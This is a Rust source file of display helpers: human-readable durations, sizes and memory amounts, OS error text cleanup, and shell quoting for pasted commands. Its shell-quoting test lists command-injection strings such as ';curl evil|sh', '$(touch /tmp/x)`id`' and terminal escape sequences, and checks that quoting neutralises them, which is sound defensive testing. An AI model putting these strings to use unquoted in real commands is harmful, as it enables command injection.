//! Sizes and times as people read them, and words as a shell does.

use std::fmt::Write as _;
use std::time::Duration;

use crate::untrusted::steers;

/// `0.3 s`, `12.0 s`, `3m 05s`, `2h 10m`, `5d 3h`.
pub fn human_duration(duration: Duration) -> String {
    let seconds = duration.as_secs();
    match seconds {
        0..60 => format!("{:.1} s", duration.as_secs_f64()),
        60..3600 => format!("{}m {:02}s", seconds / 60, seconds % 60),
        3600..86400 => format!("{}h {:02}m", seconds / 3600, seconds % 3600 / 60),
        _ => format!("{}d {}h", seconds / 86400, seconds % 86400 / 3600),
    }
}

/// How long ago something was, in whole seconds at the least: `3 s`, `3m 05s`, `2h 10m`, `5d 3h`.
pub fn human_age(age: Duration) -> String {
    if age.as_secs() < 60 {
        return format!("{} s", age.as_secs());
    }
    human_duration(age)
}

/// The same in one number: `3 s`, `3m`, `2h`, `5d`.
pub fn short_age(age: Duration) -> String {
    let whole = human_age(age);
    match whole.split_once(' ') {
        Some((first, rest)) if rest != "s" => first.to_owned(),
        _ => whole,
    }
}

/// A word of somebody else's in a command that can be pasted: a shell takes it for this word and nothing
/// else. What would steer a terminal is written as bash and zsh read it in `$'…'`.
pub fn shell_quote(word: &str) -> String {
    let plain = |c: char| c.is_ascii_alphanumeric() || "/._-+@:,".contains(c);
    if !word.is_empty() && word.chars().all(plain) {
        return word.to_owned();
    }
    if !word.chars().any(steers) {
        return format!("'{}'", word.replace('\'', r"'\''"));
    }
    let mut quoted = String::from("$'");
    for c in word.chars() {
        match c {
            '\'' | '\\' => quoted.extend(['\\', c]),
            c if steers(c) => {
                let mut bytes = [0; 4];
                for byte in c.encode_utf8(&mut bytes).bytes() {
                    // Always three digits: what follows is no part of it.
                    let _ = write!(quoted, "\\{byte:03o}");
                }
            }
            c => quoted.push(c),
        }
    }
    quoted.push('\'');
    quoted
}

/// As [`shell_quote`], of a path, which is not taken for an option either.
pub fn shell_path(path: &str) -> String {
    if path.starts_with('-') {
        return shell_quote(&format!("./{path}"));
    }
    shell_quote(path)
}

/// A sentence of ours without the numbers that the standard library puts behind the system's words: `no such file or
/// directory` for `No such file or directory (os error 2)`.
pub fn plain_words(text: &str) -> String {
    const MARK: &str = " (os error ";
    let mut rest = text;
    let mut plain = String::with_capacity(text.len());
    while let Some((before, behind)) = rest.split_once(MARK) {
        let digits = behind.bytes().take_while(u8::is_ascii_digit).count();
        let number = behind[..digits].parse().ok();
        let end = behind[digits..].strip_prefix(')');
        let (Some(number), Some(end)) = (number, end) else {
            plain.push_str(before);
            plain.push_str(MARK);
            rest = behind;
            continue;
        };
        let words = std::io::Error::from_raw_os_error(number).to_string();
        let words = words.split(MARK).next().unwrap_or_default();
        match before.strip_suffix(words) {
            Some(begin) => {
                plain.push_str(begin);
                plain.push_str(&words.to_lowercase());
            }
            None => plain.push_str(before),
        }
        rest = end;
    }
    plain + rest
}

/// `512 B`, `1.5 MB`: powers of 1000, as docker prints sizes of files and images.
pub fn human_size(bytes: u64) -> String {
    const UNITS: [&str; 5] = ["B", "kB", "MB", "GB", "TB"];
    in_units(bytes, 1000.0, UNITS)
}

/// `48 MiB`, `1.5 GiB`: powers of 1024, as docker reads and prints memory; a whole number of a unit is shown as such.
pub fn human_memory(bytes: u64) -> String {
    const UNITS: [&str; 5] = ["B", "KiB", "MiB", "GiB", "TiB"];
    let unit = UNITS.iter().zip(0_u32..5).rev();
    for (unit, power) in unit.filter(|(_, power)| *power > 0) {
        let of_one = 1024_u64.pow(power);
        if bytes >= of_one && bytes.is_multiple_of(of_one) && bytes / of_one < 10_000 {
            return format!("{} {unit}", bytes / of_one);
        }
    }
    in_units(bytes, 1024.0, UNITS)
}

fn in_units(bytes: u64, base: f64, units: [&str; 5]) -> String {
    #[expect(clippy::cast_precision_loss, reason = "three digits are shown")]
    let mut size = bytes as f64;
    let mut unit = 0;
    while size >= 999.5 && unit + 1 < units.len() {
        size /= base;
        unit += 1;
    }
    match unit {
        0 => format!("{bytes} B"),
        _ if size < 99.95 => format!("{size:.1} {}", units[unit]),
        _ => format!("{size:.0} {}", units[unit]),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn sizes_have_three_digits_at_most() {
        let cases = [
            (0, "0 B"),
            (999, "999 B"),
            (1000, "1.0 kB"),
            (1_536_000, "1.5 MB"),
            (999_600_000, "1.0 GB"),
            (123_000_000, "123 MB"),
        ];
        for (bytes, text) in cases {
            assert_eq!(human_size(bytes), text);
        }
    }

    #[test]
    fn memory_is_told_in_the_units_that_it_is_given_in() {
        let cases = [
            (0, "0 B"),
            (512 << 20, "512 MiB"),
            (48 << 20, "48 MiB"),
            (2 << 30, "2 GiB"),
            (1536 << 20, "1536 MiB"),
            (1_500_000, "1.4 MiB"),
            (2_000_000_000, "1.9 GiB"),
            (12_582_913 << 10, "12.0 GiB"),
        ];
        for (bytes, text) in cases {
            assert_eq!(human_memory(bytes), text);
        }
    }

    #[test]
    fn the_systems_words_come_without_its_numbers() {
        for number in [1, 2, 13, 20, 28, 98, 111] {
            let error = std::io::Error::from_raw_os_error(number);
            let words = error.to_string();
            let words = words.split(" (").next().unwrap_or_default().to_lowercase();
            let said = plain_words(&format!("/a: {error}: {error}"));
            assert_eq!(said, format!("/a: {words}: {words}"));
        }
        for (text, plain) in [
            ("", ""),
            ("odd words (os error 2)", "odd words"),
            (
                "a file (os error x) (os error 13",
                "a file (os error x) (os error 13",
            ),
            ("(os error 2)", "(os error 2)"),
        ] {
            assert_eq!(plain_words(text), plain);
        }
    }

    /// What bash makes of a quoted word is that word, and nothing runs.
    #[test]
    fn a_shell_takes_a_quoted_word_for_what_it_is() {
        for word in [
            "plain-1.2/x",
            "",
            "a b",
            ";curl evil|sh",
            "$(touch /tmp/x)`id`",
            "it's \"quoted\"",
            "~root",
            "*",
            "!!",
            "a\nb\r\t\u{1b}[2J",
            "x\u{202e}gpj\u{9b}1",
            "\u{1}7'\\",
            "zürich 京",
        ] {
            let quoted = shell_quote(word);
            assert!(!quoted.chars().any(steers), "{quoted:?}");
            #[allow(clippy::disallowed_types, reason = "the shell itself is asked")]
            let said = std::process::Command::new("bash")
                .args(["-c", &format!("printf %s {quoted}")])
                .output()
                .expect("bash");
            assert_eq!(String::from_utf8_lossy(&said.stdout), word, "{quoted}");
            assert_eq!(said.stderr, b"");
        }
        assert_eq!(shell_quote("plain-1.2/x"), "plain-1.2/x");
        assert_eq!(shell_path("-rf"), "./-rf");
        assert_eq!(shell_path("a;b"), "'a;b'");
    }

    #[test]
    fn durations_lose_precision_as_they_grow() {
        let cases = [
            (300, "0.3 s"),
            (61_000, "1m 01s"),
            (3_660_000, "1h 01m"),
            (90_000_000, "1d 1h"),
        ];
        for (millis, text) in cases {
            assert_eq!(human_duration(Duration::from_millis(millis)), text);
        }
    }

    #[test]
    fn ages_are_whole_seconds() {
        for (millis, text) in [(999, "0 s"), (59_999, "59 s"), (61_000, "1m 01s")] {
            assert_eq!(human_age(Duration::from_millis(millis)), text);
        }
    }
}
